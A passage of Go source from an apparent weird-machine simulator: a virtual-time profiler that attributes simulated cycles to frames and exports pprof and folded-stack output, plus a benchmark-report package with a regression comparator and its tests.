			if line[i] == ' ' {
				for _, c := range line[i+1:] {
					v = v*10 + int64(c-'0')
				}
				break
			}
		}
		sum += v
	}
	if sum != p.TotalCycles() {
		t.Errorf("Σ self = %d, want total %d", sum, p.TotalCycles())
	}
}

func TestTruncatedRecordingIsTolerated(t *testing.T) {
	// An end without its begin (begin fell out of a ring buffer) is
	// skipped; an unclosed begin is closed at the last observed cycle.
	p := vprof.FromEvents([]trace.Event{
		end(7, "lost", 5),
		span(8, 0, "open", 10),
		{Kind: trace.KindCommit, Cycle: 50},
	})
	want := "program;open 40\nprogram 10\n"
	// Folded output is sorted, so normalize the expectation too.
	if got := folded(t, p); got != "program 10\nprogram;open 40\n" {
		t.Fatalf("folded:\n%swant (sorted):\n%s", got, want)
	}
}

// buildProfiles runs a weird SHA-1 digest on one machine with a tee of
// JSONL sink + live profiler, then replays the recording offline.
// Returns (live, offline, machine TSC).
func buildProfiles(t *testing.T) (*vprof.Profiler, *vprof.Profiler, int64) {
	t.Helper()
	live := vprof.New()
	var jsonl bytes.Buffer
	js := trace.NewJSONLSink(&jsonl)
	m, err := core.NewMachine(core.Options{
		Seed: 11, TrainIterations: 2, Sink: trace.Tee(js, live),
	})
	if err != nil {
		t.Fatal(err)
	}
	sk, err := skelly.New(m, skelly.FastConfig())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sha1wm.New(sk).Sum([]byte("abc")); err != nil {
		t.Fatal(err)
	}
	if err := js.Close(); err != nil {
		t.Fatal(err)
	}
	res, err := traceanalyze.ParseJSONL(&jsonl)
	if err != nil {
		t.Fatal(err)
	}
	return live, vprof.FromEvents(res.Events), m.CPU().TSC()
}

func TestLiveAndOfflineProfilesAgree(t *testing.T) {
	if testing.Short() {
		t.Skip("runs a full weird SHA-1 digest")
	}
	live, offline, tsc := buildProfiles(t)
	lf, of := folded(t, live), folded(t, offline)
	if lf != of {
		t.Errorf("live and offline folded output differ:\nlive:\n%s\noffline:\n%s", lf, of)
	}
	// The acceptance bound: profile total within 1% of the final
	// simulated TSC. (They are equal by construction — the cpu emits
	// commit events up to the end of the run — but the contract is 1%.)
	if tsc == 0 {
		t.Fatal("machine TSC is 0")
	}
	diff := float64(live.TotalCycles()-tsc) / float64(tsc)
	if diff < -0.01 || diff > 0.01 {
		t.Errorf("profile total %d vs TSC %d: off by %.2f%%", live.TotalCycles(), tsc, 100*diff)
	}
	for _, frame := range []string{"sha1:sum", "sha1:block", "sha1:round", "circuit:add32", "skelly:AND"} {
		if !strings.Contains(lf, frame) {
			t.Errorf("frame %q missing from profile:\n%s", frame, lf)
		}
	}
	var top bytes.Buffer
	if err := live.WriteTop(&top, 10); err != nil {
		t.Fatal(err)
	}
	// Self time concentrates in the leaf component frames; composite
	// frames (sha1:*, circuit:*) show up through their cum column.
	for _, s := range []string{"frame", "branch:train", "mem:read", "program"} {
		if !strings.Contains(top.String(), s) {
			t.Errorf("top table missing %q:\n%s", s, top.String())
		}
	}
}

func TestWritePprofIsWellFormed(t *testing.T) {
	p := vprof.FromEvents([]trace.Event{
		span(1, 0, "a", 10),
		span(2, 1, "b", 20),
		end(2, "b", 50),
		end(1, "a", 90),
		{Kind: trace.KindCommit, Cycle: 100},
	})
	var buf bytes.Buffer
	if err := p.WritePprof(&buf); err != nil {
		t.Fatal(err)
	}
	gz, err := gzip.NewReader(&buf)
	if err != nil {
		t.Fatalf("output is not gzip: %v", err)
	}
	raw, err := io.ReadAll(gz)
	if err != nil {
		t.Fatalf("gzip body: %v", err)
	}
	for _, s := range []string{"virtualcycles", "activations", "program", "a", "b"} {
		if !bytes.Contains(raw, []byte(s)) {
			t.Errorf("decompressed proto missing string %q", s)
		}
	}
}

// TestGoToolPprofReadsProfile is the end-to-end check of the pprof
// encoding: `go tool pprof -top` must parse the file and report the
// frames. Skipped when the go tool is unavailable.
func TestGoToolPprofReadsProfile(t *testing.T) {
	goBin, err := exec.LookPath("go")
	if err != nil {
		t.Skip("go tool not on PATH")
	}
	p := vprof.FromEvents([]trace.Event{
		span(1, 0, "circuit:xor", 10),
		span(2, 1, "gate:AND", 20),
		end(2, "gate:AND", 70),
		end(1, "circuit:xor", 90),
		{Kind: trace.KindCommit, Cycle: 100},
	})
	dir := t.TempDir()
	file := filepath.Join(dir, "cycles.pb.gz")
	f, err := os.Create(file)
	if err != nil {
		t.Fatal(err)
	}
	if err := p.WritePprof(f); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(goBin, "tool", "pprof", "-top", "-unit=cycles", file)
	cmd.Env = append(os.Environ(), "PPROF_NO_BROWSER=1")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("go tool pprof -top failed: %v\n%s", err, out)
	}
	for _, s := range []string{"gate:AND", "circuit:xor", "program"} {
		if !strings.Contains(string(out), s) {
			t.Errorf("pprof -top output missing %q:\n%s", s, out)
		}
	}
}
