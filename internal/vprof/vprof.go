// Package vprof is the simulator's virtual-time profiler: it attributes
// simulated TSC deltas to a hierarchy of frames (program → circuit →
// gate → component) from the paired span events (trace.KindSpanBegin /
// trace.KindSpanEnd) the instrumented layers emit.
//
// A Profiler is a trace.Sink, so it can ride the live event stream of a
// run (obs wires it behind the -cycleprof flag), and it can equally be
// fed a JSONL recording decoded by package traceanalyze — the offline
// path `uwm-trace profile` uses. Both paths produce identical profiles
// for the same event stream.
//
// Three export formats cover the common tooling:
//
//   - WritePprof emits a gzip-compressed pprof profile.proto whose
//     samples are virtual cycles, so `go tool pprof` works unchanged —
//     top, peek, web, flamegraph — just with simulated time;
//   - WriteFolded emits folded stacks ("a;b;c 123") for the classic
//     flamegraph.pl / inferno / speedscope toolchain;
//   - WriteTop renders a self-contained top-N table.
//
// Cycles not covered by any span (machine calibration, gate warm-up,
// harness glue) stay attributed to the root "program" frame, so the
// profile total always equals the run's final simulated TSC.
package vprof

import (
	"fmt"
	"io"
	"sort"
	"strings"

	"uwm/internal/trace"
)

// RootFrame is the name of the synthetic root every stack hangs off.
const RootFrame = "program"

// node is one frame in the merged call tree. Spans with the same name
// under the same parent merge, flamegraph-style.
type node struct {
	name     string
	parent   int // index into Profiler.nodes; -1 for the root
	children map[string]int
	cum      int64 // cycles covered by spans of this frame (incl. children)
	count    int64 // spans merged into this node
}

// openSpan is one frame currently on the span stack.
type openSpan struct {
	id    uint64
	node  int
	begin int64
}

// Profiler accumulates span events into a frame tree. The zero value is
// not usable; call New.
type Profiler struct {
	nodes     []node
	open      []openSpan
	last      int64 // maximal cycle seen across ALL events
	spans     int   // span events consumed
	finalized bool
}

// New returns an empty profiler whose tree holds only the root frame.
func New() *Profiler {
	return &Profiler{nodes: []node{{
		name: RootFrame, parent: -1, children: map[string]int{}, count: 1,
	}}}
}

// FromEvents builds a profile offline from a decoded event stream (a
// parsed JSONL recording).
func FromEvents(events []trace.Event) *Profiler {
	p := New()
	for _, e := range events {
		p.Emit(e)
	}
	return p
}

// Enabled implements the optional sink capability: a profiler always
// observes (it needs every event's cycle to track the run's extent).
func (p *Profiler) Enabled() bool { return true }

// Emit implements trace.Sink. Non-span events only advance the observed
// clock; span pairs open and close frames.
func (p *Profiler) Emit(e trace.Event) {
	if e.Cycle > p.last {
		p.last = e.Cycle
	}
	switch e.Kind {
	case trace.KindSpanBegin:
		p.spans++
		parent := 0
		if n := len(p.open); n > 0 {
			parent = p.open[n-1].node
		}
		ni := p.child(parent, e.Text)
		p.nodes[ni].count++
		p.open = append(p.open, openSpan{id: e.Value, node: ni, begin: e.Cycle})
	case trace.KindSpanEnd:
		p.spans++
		p.closeSpan(e.Value, e.Cycle)
	}
}

// child returns (creating if needed) the child of parent named name.
func (p *Profiler) child(parent int, name string) int {
	if ni, ok := p.nodes[parent].children[name]; ok {
		return ni
	}
	ni := len(p.nodes)
	p.nodes = append(p.nodes, node{name: name, parent: parent, children: map[string]int{}})
	p.nodes[parent].children[name] = ni
	return ni
}

// closeSpan pops the stack down to (and including) the frame with the
// given id, accumulating each popped frame's duration. An id not on the
// stack — its begin fell out of a ring-buffer recording, or it was
// closed together with a parent — is ignored.
func (p *Profiler) closeSpan(id uint64, cycle int64) {
	idx := -1
	for n := len(p.open) - 1; n >= 0; n-- {
		if p.open[n].id == id {
			idx = n
			break
		}
		if p.open[n].id < id {
			break // ids are monotonic: id cannot be deeper
		}
	}
	if idx < 0 {
		return
	}
	for n := len(p.open) - 1; n >= idx; n-- {
		o := p.open[n]
		if d := cycle - o.begin; d > 0 {
			p.nodes[o.node].cum += d
		}
	}
	p.open = p.open[:idx]
}

// finalize closes frames left open (a truncated recording) at the last
// observed cycle and pins the root's cumulative time to the full run
// extent, so unattributed cycles surface as root self time.
func (p *Profiler) finalize() {
	if p.finalized {
		return
	}
	p.finalized = true
	for n := len(p.open) - 1; n >= 0; n-- {
		o := p.open[n]
		if d := p.last - o.begin; d > 0 {
			p.nodes[o.node].cum += d
		}
	}
	p.open = nil
	p.nodes[0].cum = p.last
}

// selfCycles returns each node's self time: cumulative minus children,
// clamped at zero (merged spans can overlap pathologically in a
// hand-edited trace; the profile must still be well-formed).
func (p *Profiler) selfCycles() []int64 {
	self := make([]int64, len(p.nodes))
	for i, n := range p.nodes {
		s := n.cum
		for _, c := range n.children {
			s -= p.nodes[c].cum
		}
		if s < 0 {
			s = 0
		}
		self[i] = s
	}
	return self
}

// TotalCycles returns the profile's extent: the largest simulated TSC
// observed across every event — for a live session, the run's final
// simulated timestamp.
func (p *Profiler) TotalCycles() int64 { return p.last }

// SpanEvents returns how many span events were consumed.
func (p *Profiler) SpanEvents() int { return p.spans }

// Frames returns the number of distinct frames in the merged tree,
// including the root.
func (p *Profiler) Frames() int { return len(p.nodes) }

// stack returns the root-to-leaf frame names for a node.
func (p *Profiler) stack(ni int) []string {
	var rev []string
	for i := ni; i >= 0; i = p.nodes[i].parent {
		rev = append(rev, p.nodes[i].name)
	}
	out := make([]string, len(rev))
	for i, s := range rev {
		out[len(rev)-1-i] = s
	}
	return out
}

// WriteFolded emits the profile as folded stacks — one line per frame
// with nonzero self time, "root;frame;...;leaf selfcycles" — the input
// format of flamegraph.pl, inferno and speedscope. Lines are sorted so
// the output is deterministic and diffable (the live-vs-offline
// equality the tests pin down).
func (p *Profiler) WriteFolded(w io.Writer) error {
	p.finalize()
	self := p.selfCycles()
	lines := make([]string, 0, len(p.nodes))
	for i := range p.nodes {
		if self[i] == 0 {
			continue
		}
		lines = append(lines, fmt.Sprintf("%s %d", strings.Join(p.stack(i), ";"), self[i]))
	}
	sort.Strings(lines)
	for _, l := range lines {
		if _, err := fmt.Fprintln(w, l); err != nil {
			return err
		}
	}
	return nil
}

// flatRow is one aggregated row of the top table.
type flatRow struct {
	name      string
	flat, cum int64
	count     int64
}

// topRows aggregates self and cumulative cycles by frame name, the way
// pprof -top aggregates by function. Sorted by flat descending, then
// name for determinism.
func (p *Profiler) topRows() []flatRow {
	p.finalize()
	self := p.selfCycles()
	byName := map[string]*flatRow{}
	order := []string{}
	for i, n := range p.nodes {
		r := byName[n.name]
		if r == nil {
			r = &flatRow{name: n.name}
			byName[n.name] = r
			order = append(order, n.name)
		}
		r.flat += self[i]
		r.cum += n.cum
		r.count += n.count
	}
	rows := make([]flatRow, 0, len(order))
	for _, name := range order {
		rows = append(rows, *byName[name])
	}
	sort.Slice(rows, func(i, j int) bool {
		if rows[i].flat != rows[j].flat {
			return rows[i].flat > rows[j].flat
		}
		return rows[i].name < rows[j].name
	})
	return rows
}

// WriteTop renders the top-n frames by self (flat) virtual cycles, in
// the familiar pprof -top shape plus a span count column. n <= 0 means
// all frames.
func (p *Profiler) WriteTop(w io.Writer, n int) error {
	rows := p.topRows()
	total := p.TotalCycles()
	if n <= 0 || n > len(rows) {
		n = len(rows)
	}
	fmt.Fprintf(w, "== virtual-cycle profile ==\n")
	fmt.Fprintf(w, "total: %d cycles, %d frames, %d span events\n",
		total, p.Frames(), p.SpanEvents())
	fmt.Fprintf(w, "%12s %7s %7s %12s %7s %9s  %s\n",
		"flat", "flat%", "sum%", "cum", "cum%", "spans", "frame")
	pct := func(v int64) float64 {
		if total == 0 {
			return 0
		}
		return 100 * float64(v) / float64(total)
	}
	var running int64
	for _, r := range rows[:n] {
		running += r.flat
		if _, err := fmt.Fprintf(w, "%12d %6.2f%% %6.2f%% %12d %6.2f%% %9d  %s\n",
			r.flat, pct(r.flat), pct(running), r.cum, pct(r.cum), r.count, r.name); err != nil {
			return err
		}
	}
	return nil
}
