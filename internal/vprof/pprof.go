package vprof

// pprof profile.proto export, hand-encoded. The profile.proto schema is
// stable and tiny for our purposes — flat samples over location chains —
// so rather than pulling in a protobuf dependency we emit the wire
// format directly: varint-keyed fields, length-delimited submessages,
// packed repeated scalars, the whole thing gzip-wrapped as `go tool
// pprof` expects.
//
// Field numbers below follow github.com/google/pprof/proto/profile.proto.

import (
	"compress/gzip"
	"io"
)

// buffer is a minimal protobuf wire-format writer.
type buffer struct{ b []byte }

func (b *buffer) varint(v uint64) {
	for v >= 0x80 {
		b.b = append(b.b, byte(v)|0x80)
		v >>= 7
	}
	b.b = append(b.b, byte(v))
}

// tag writes a field key. wire 0 = varint, wire 2 = length-delimited.
func (b *buffer) tag(field, wire int) { b.varint(uint64(field)<<3 | uint64(wire)) }

func (b *buffer) uint64Field(field int, v uint64) {
	if v == 0 {
		return // proto3 default
	}
	b.tag(field, 0)
	b.varint(v)
}

func (b *buffer) int64Field(field int, v int64) { b.uint64Field(field, uint64(v)) }

func (b *buffer) bytesField(field int, p []byte) {
	b.tag(field, 2)
	b.varint(uint64(len(p)))
	b.b = append(b.b, p...)
}

func (b *buffer) stringField(field int, s string) {
	b.tag(field, 2)
	b.varint(uint64(len(s)))
	b.b = append(b.b, s...)
}

// packedInt64s writes a repeated int64 field in packed encoding.
func (b *buffer) packedInt64s(field int, vs []int64) {
	if len(vs) == 0 {
		return
	}
	var inner buffer
	for _, v := range vs {
		inner.varint(uint64(v))
	}
	b.bytesField(field, inner.b)
}

// packedUint64s writes a repeated uint64 field in packed encoding.
func (b *buffer) packedUint64s(field int, vs []uint64) {
	if len(vs) == 0 {
		return
	}
	var inner buffer
	for _, v := range vs {
		inner.varint(v)
	}
	b.bytesField(field, inner.b)
}

// strtab interns strings for the profile's string_table; index 0 is the
// mandatory empty string.
type strtab struct {
	idx  map[string]int64
	list []string
}

func newStrtab() *strtab {
	return &strtab{idx: map[string]int64{"": 0}, list: []string{""}}
}

func (t *strtab) id(s string) int64 {
	if i, ok := t.idx[s]; ok {
		return i
	}
	i := int64(len(t.list))
	t.idx[s] = i
	t.list = append(t.list, s)
	return i
}

// valueType encodes a ValueType{type, unit} submessage.
func valueType(tab *strtab, typ, unit string) []byte {
	var b buffer
	b.int64Field(1, tab.id(typ))
	b.int64Field(2, tab.id(unit))
	return b.b
}

// WritePprof writes the profile as a gzip-compressed pprof
// profile.proto. Samples carry two value columns — span activation
// counts and self virtual cycles — with virtualcycles as the default
// sample type, so `go tool pprof file` lands on cycle attribution.
// One nanosecond stands in for one virtual cycle in duration_nanos,
// keeping pprof's header arithmetic meaningful.
func (p *Profiler) WritePprof(w io.Writer) error {
	p.finalize()
	self := p.selfCycles()
	tab := newStrtab()

	var prof buffer
	// sample_type: [activations/count, virtualcycles/cycles]
	prof.bytesField(1, valueType(tab, "activations", "count"))
	prof.bytesField(1, valueType(tab, "virtualcycles", "cycles"))

	// One Function per distinct frame name, one Location per tree node
	// (a unique frame position), one Sample per node with nonzero self
	// time or activation count. Ids are 1-based as pprof requires.
	funcID := map[string]uint64{}
	var funcs buffer
	for i := range p.nodes {
		name := p.nodes[i].name
		if _, ok := funcID[name]; ok {
			continue
		}
		id := uint64(len(funcID) + 1)
		funcID[name] = id
		var f buffer
		f.uint64Field(1, id)
		f.int64Field(2, tab.id(name))
		f.int64Field(3, tab.id(name)) // system_name
		f.int64Field(4, tab.id("uwm:virtual"))
		funcs.bytesField(5, f.b) // Profile.function
	}

	var locs buffer
	for i := range p.nodes {
		locID := uint64(i + 1)
		var line buffer
		line.uint64Field(1, funcID[p.nodes[i].name])
		var loc buffer
		loc.uint64Field(1, locID)
		loc.bytesField(4, line.b) // Location.line
		locs.bytesField(4, loc.b) // Profile.location
	}

	var samples buffer
	for i := range p.nodes {
		if self[i] == 0 && p.nodes[i].count == 0 {
			continue
		}
		// Leaf-first location chain up to the root.
		var chain []uint64
		for n := i; n >= 0; n = p.nodes[n].parent {
			chain = append(chain, uint64(n+1))
		}
		var s buffer
		s.packedUint64s(1, chain)
		s.packedInt64s(2, []int64{p.nodes[i].count, self[i]})
		samples.bytesField(2, s.b) // Profile.sample
	}

	// Trailer fields intern their strings before the string table is
	// serialized — tab must be complete by then.
	var trailer buffer
	trailer.int64Field(10, p.TotalCycles())               // duration_nanos: 1 cycle ≙ 1ns
	trailer.bytesField(11, valueType(tab, "cycles", "1")) // period_type
	trailer.int64Field(12, 1)                             // period
	trailer.int64Field(13, tab.id("uwm virtual-cycle profile: simulated TSC attribution"))
	trailer.int64Field(14, tab.id("virtualcycles")) // default_sample_type

	prof.b = append(prof.b, samples.b...)
	prof.b = append(prof.b, locs.b...)
	prof.b = append(prof.b, funcs.b...)
	for _, s := range tab.list {
		prof.stringField(6, s)
	}
	prof.b = append(prof.b, trailer.b...)

	gz := gzip.NewWriter(w)
	if _, err := gz.Write(prof.b); err != nil {
		return err
	}
	return gz.Close()
}
