// Package benchreport defines the machine-readable result model behind
// `uwm-bench -json`: a versioned, self-describing record of one
// evaluation run (git SHA, seed, parameter preset, Go toolchain) with
// per-experiment wall time, allocation stats and named metrics — and a
// benchstat-style comparator over two such records that turns the
// repo's BENCH_*.json files into a perf-regression gate.
package benchreport

import (
	"encoding/json"
	"fmt"
	"os"
	"runtime"
	"sort"
)

// SchemaVersion identifies the report layout. Readers reject newer
// majors; writers always stamp the current version.
const SchemaVersion = 1

// Direction states which way a metric should move to count as an
// improvement. Neutral metrics are compared but never counted as
// regressions (e.g. a fraction that merely characterises the workload).
const (
	HigherIsBetter = "higher"
	LowerIsBetter  = "lower"
	Neutral        = ""
)

// Metric is one named measurement of an experiment. Value is the point
// estimate; Samples, when present, carry the underlying observations so
// the comparator can run a Mann-Whitney U test instead of a bare
// threshold check.
type Metric struct {
	Name    string    `json:"name"`
	Unit    string    `json:"unit,omitempty"`
	Better  string    `json:"better,omitempty"` // "higher", "lower" or "" (neutral)
	Value   float64   `json:"value"`
	Samples []float64 `json:"samples,omitempty"`
}

// Experiment is the structured result of one table/figure/ablation run.
type Experiment struct {
	Name        string    `json:"name"`
	WallNanos   int64     `json:"wall_ns"`
	WallSamples []float64 `json:"wall_ns_samples,omitempty"` // one per -repeat
	AllocBytes  uint64    `json:"alloc_bytes"`
	Allocs      uint64    `json:"allocs"`
	Metrics     []Metric  `json:"metrics,omitempty"`
}

// Report is one complete `uwm-bench -json` run.
type Report struct {
	SchemaVersion int          `json:"schema_version"`
	Tool          string       `json:"tool"`
	CreatedUnix   int64        `json:"created_unix"`
	GitSHA        string       `json:"git_sha,omitempty"`
	GoVersion     string       `json:"go_version"`
	GOOS          string       `json:"goos"`
	GOARCH        string       `json:"goarch"`
	Seed          uint64       `json:"seed"`
	Params        string       `json:"params"` // parameter preset: quick, record, full
	Experiments   []Experiment `json:"experiments"`
}

// New returns a report stamped with the schema version and the running
// toolchain. CreatedUnix and GitSHA are the caller's to fill: this
// package stays deterministic and exec-free.
func New(seed uint64, params string) *Report {
	return &Report{
		SchemaVersion: SchemaVersion,
		Tool:          "uwm-bench",
		GoVersion:     runtime.Version(),
		GOOS:          runtime.GOOS,
		GOARCH:        runtime.GOARCH,
		Seed:          seed,
		Params:        params,
	}
}

// Add appends an experiment result.
func (r *Report) Add(e Experiment) { r.Experiments = append(r.Experiments, e) }

// Experiment returns the named experiment, or nil.
func (r *Report) Experiment(name string) *Experiment {
	for i := range r.Experiments {
		if r.Experiments[i].Name == name {
			return &r.Experiments[i]
		}
	}
	return nil
}

// Metric returns the named metric, or nil.
func (e *Experiment) Metric(name string) *Metric {
	for i := range e.Metrics {
		if e.Metrics[i].Name == name {
			return &e.Metrics[i]
		}
	}
	return nil
}

// ExperimentNames returns every experiment name in report order.
func (r *Report) ExperimentNames() []string {
	out := make([]string, len(r.Experiments))
	for i := range r.Experiments {
		out[i] = r.Experiments[i].Name
	}
	return out
}

// WriteFile serialises the report as indented JSON.
func (r *Report) WriteFile(path string) error {
	b, err := json.MarshalIndent(r, "", "  ")
	if err != nil {
		return fmt.Errorf("benchreport: %w", err)
	}
	return os.WriteFile(path, append(b, '\n'), 0o644)
}

// ReadFile loads and validates a report written by WriteFile.
func ReadFile(path string) (*Report, error) {
	b, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("benchreport: %w", err)
	}
	var r Report
	if err := json.Unmarshal(b, &r); err != nil {
		return nil, fmt.Errorf("benchreport: %s: %w", path, err)
	}
	if r.SchemaVersion < 1 || r.SchemaVersion > SchemaVersion {
		return nil, fmt.Errorf("benchreport: %s: unsupported schema version %d (this build reads ≤ %d)",
			path, r.SchemaVersion, SchemaVersion)
	}
	return &r, nil
}

// Downsample reduces xs to at most max values by taking every k-th
// element (deterministic, order-preserving) — enough fidelity for a
// rank test without bloating the JSON with a million raw samples.
func Downsample(xs []float64, max int) []float64 {
	if max <= 0 || len(xs) <= max {
		return xs
	}
	out := make([]float64, 0, max)
	step := float64(len(xs)) / float64(max)
	for i := 0; i < max; i++ {
		out = append(out, xs[int(float64(i)*step)])
	}
	return out
}

// SamplesFromInts converts an integer sample vector.
func SamplesFromInts(xs []int64) []float64 {
	out := make([]float64, len(xs))
	for i, x := range xs {
		out[i] = float64(x)
	}
	return out
}

// SortedMetricNames returns the union of metric names of two
// experiments, in deterministic order: e1's metrics first (report
// order), then any e2-only names sorted.
func SortedMetricNames(e1, e2 *Experiment) []string {
	var names []string
	seen := map[string]bool{}
	if e1 != nil {
		for _, m := range e1.Metrics {
			if !seen[m.Name] {
				seen[m.Name] = true
				names = append(names, m.Name)
			}
		}
	}
	var extra []string
	if e2 != nil {
		for _, m := range e2.Metrics {
			if !seen[m.Name] {
				seen[m.Name] = true
				extra = append(extra, m.Name)
			}
		}
	}
	sort.Strings(extra)
	return append(names, extra...)
}
