package benchreport

import (
	"math"
	"strings"
	"testing"
)

func mkReport(wall int64, wallSamples []float64, acc float64, accSamples []float64) *Report {
	r := New(1, "quick")
	r.Add(Experiment{
		Name:        "table2",
		WallNanos:   wall,
		WallSamples: wallSamples,
		Metrics: []Metric{
			{Name: "AND/accuracy", Better: HigherIsBetter, Value: acc, Samples: accSamples},
		},
	})
	return r
}

func findDelta(c *Comparison, metric string) *Delta {
	for i := range c.Deltas {
		if c.Deltas[i].Metric == metric {
			return &c.Deltas[i]
		}
	}
	return nil
}

// TestCompareIdentical: identical reports produce zero regressions —
// the comparator's exit-zero contract.
func TestCompareIdentical(t *testing.T) {
	a := mkReport(1000, nil, 0.99, nil)
	b := mkReport(1000, nil, 0.99, nil)
	c := Compare(a, b, Options{})
	if regs := c.Regressions(); len(regs) != 0 {
		t.Fatalf("identical reports flagged: %+v", regs)
	}
	for _, d := range c.Deltas {
		if d.Verdict != Same {
			t.Errorf("delta %s verdict %s, want ~", d.Metric, d.Verdict)
		}
	}
}

// TestCompareInjectedRegression: a 3x wall-time blowup with clearly
// separated sample vectors must be flagged as a significant regression.
func TestCompareInjectedRegression(t *testing.T) {
	old := mkReport(1000, []float64{990, 1000, 1010, 1005, 995}, 0.99, nil)
	new := mkReport(3000, []float64{2990, 3000, 3010, 3005, 2995}, 0.99, nil)
	c := Compare(old, new, Options{})
	d := findDelta(c, "wall_ns")
	if d == nil {
		t.Fatal("no wall_ns delta")
	}
	if d.Verdict != Worse {
		t.Fatalf("wall_ns verdict = %s (p=%v rel=%v), want worse", d.Verdict, d.P, d.Rel)
	}
	if math.IsNaN(d.P) || d.P > 0.05 {
		t.Errorf("expected a significant Mann-Whitney p, got %v", d.P)
	}
	if len(c.Regressions()) != 1 {
		t.Errorf("regressions = %+v", c.Regressions())
	}
}

// TestCompareImprovementIsNotRegression: the same delta in the
// preferred direction is "better", not a gate failure.
func TestCompareImprovement(t *testing.T) {
	old := mkReport(3000, nil, 0.90, nil)
	new := mkReport(1000, nil, 0.99, nil)
	c := Compare(old, new, Options{})
	if d := findDelta(c, "wall_ns"); d == nil || d.Verdict != Better {
		t.Errorf("wall_ns: %+v", d)
	}
	if len(c.Regressions()) != 0 {
		t.Errorf("improvement counted as regression: %+v", c.Regressions())
	}
}

// TestCompareAccuracyDrop: a higher-is-better metric falling beyond the
// threshold regresses.
func TestCompareAccuracyDrop(t *testing.T) {
	old := mkReport(1000, nil, 0.99, nil)
	new := mkReport(1000, nil, 0.50, nil)
	c := Compare(old, new, Options{})
	if d := findDelta(c, "AND/accuracy"); d == nil || d.Verdict != Worse {
		t.Errorf("accuracy drop not flagged: %+v", d)
	}
}

// TestCompareNoisySamplesSuppressed: a large-looking point delta whose
// sample vectors overlap heavily is NOT significant — the Mann-Whitney
// test is what separates noise from signal.
func TestCompareNoisySamplesSuppressed(t *testing.T) {
	old := mkReport(1000, []float64{400, 800, 1200, 1600, 1000}, 0.99, nil)
	new := mkReport(1150, []float64{500, 900, 1300, 1700, 1100}, 0.99, nil)
	c := Compare(old, new, Options{Threshold: 0.10})
	d := findDelta(c, "wall_ns")
	if d == nil {
		t.Fatal("no wall_ns delta")
	}
	if d.Verdict != Same {
		t.Errorf("overlapping samples flagged: %+v", d)
	}
}

func TestCompareStructuralChanges(t *testing.T) {
	old := mkReport(1000, nil, 0.99, nil)
	old.Add(Experiment{Name: "gone-exp", WallNanos: 5})
	new := mkReport(1000, nil, 0.99, nil)
	new.Add(Experiment{Name: "new-exp", WallNanos: 5})
	new.Experiment("table2").Metrics = append(new.Experiment("table2").Metrics,
		Metric{Name: "fresh", Value: 1})
	c := Compare(old, new, Options{})
	var sawGone, sawNew, sawFresh bool
	for _, d := range c.Deltas {
		switch {
		case d.Experiment == "gone-exp" && d.Verdict == OnlyOld:
			sawGone = true
		case d.Experiment == "new-exp" && d.Verdict == OnlyNew:
			sawNew = true
		case d.Metric == "fresh" && d.Verdict == OnlyNew:
			sawFresh = true
		}
	}
	if !sawGone || !sawNew || !sawFresh {
		t.Errorf("structural deltas missing: gone=%v new=%v fresh=%v", sawGone, sawNew, sawFresh)
	}
	if len(c.Regressions()) != 0 {
		t.Errorf("structural changes must not gate: %+v", c.Regressions())
	}
}

func TestRender(t *testing.T) {
	old := mkReport(1000, nil, 0.99, nil)
	new := mkReport(3000, nil, 0.99, nil)
	c := Compare(old, new, Options{})
	out := c.Render(true)
	for _, want := range []string{"wall_ns", "worse", "+200.0%", "1 significant regression"} {
		if !strings.Contains(out, want) {
			t.Errorf("render missing %q:\n%s", want, out)
		}
	}
	// Identical comparison renders the no-deltas marker.
	same := Compare(old, mkReport(1000, nil, 0.99, nil), Options{})
	if out := same.Render(true); !strings.Contains(out, "no notable deltas") {
		t.Errorf("render: %s", out)
	}
}
