package benchreport

import (
	"path/filepath"
	"strings"
	"testing"
)

func sample() *Report {
	r := New(2021, "quick")
	r.CreatedUnix = 1_700_000_000
	r.GitSHA = "deadbeef"
	r.Add(Experiment{
		Name:      "table2",
		WallNanos: 1_000_000,
		Allocs:    10, AllocBytes: 4096,
		Metrics: []Metric{
			{Name: "AND/ops_per_sec", Unit: "op/s", Better: HigherIsBetter, Value: 100_000},
			{Name: "AND/accuracy", Better: HigherIsBetter, Value: 0.9999},
		},
	})
	return r
}

func TestReportRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "BENCH_test.json")
	r := sample()
	if err := r.WriteFile(path); err != nil {
		t.Fatal(err)
	}
	got, err := ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if got.SchemaVersion != SchemaVersion || got.Seed != 2021 || got.Params != "quick" {
		t.Errorf("header mismatch: %+v", got)
	}
	e := got.Experiment("table2")
	if e == nil {
		t.Fatal("experiment lost in round trip")
	}
	if m := e.Metric("AND/accuracy"); m == nil || m.Value != 0.9999 {
		t.Errorf("metric lost: %+v", m)
	}
	if got.Experiment("nope") != nil || e.Metric("nope") != nil {
		t.Error("lookup of missing names must return nil")
	}
}

func TestReadFileRejectsBadSchema(t *testing.T) {
	path := filepath.Join(t.TempDir(), "bad.json")
	r := sample()
	r.SchemaVersion = SchemaVersion + 1
	if err := r.WriteFile(path); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadFile(path); err == nil || !strings.Contains(err.Error(), "schema") {
		t.Errorf("future schema accepted: %v", err)
	}
}

func TestReadFileErrors(t *testing.T) {
	if _, err := ReadFile(filepath.Join(t.TempDir(), "missing.json")); err == nil {
		t.Error("missing file accepted")
	}
}

func TestDownsample(t *testing.T) {
	xs := make([]float64, 100)
	for i := range xs {
		xs[i] = float64(i)
	}
	got := Downsample(xs, 10)
	if len(got) != 10 {
		t.Fatalf("len = %d", len(got))
	}
	if got[0] != 0 || got[9] != 90 {
		t.Errorf("downsample endpoints: %v", got)
	}
	if out := Downsample(xs, 200); len(out) != 100 {
		t.Error("downsample must not grow the sample")
	}
	if out := Downsample(xs, 0); len(out) != 100 {
		t.Error("max ≤ 0 means no downsampling")
	}
}
