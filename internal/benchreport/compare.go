package benchreport

import (
	"fmt"
	"math"
	"strings"

	"uwm/internal/stats"
)

// The comparator: benchstat's decision procedure adapted to the
// evaluation harness. Metrics that carry sample vectors on both sides
// get a Mann-Whitney U test; point-estimate metrics fall back to a
// relative-delta threshold. A delta is a *regression* only when it is
// significant, beyond the threshold, and moves against the metric's
// declared better-direction.

// Options tunes the comparison.
type Options struct {
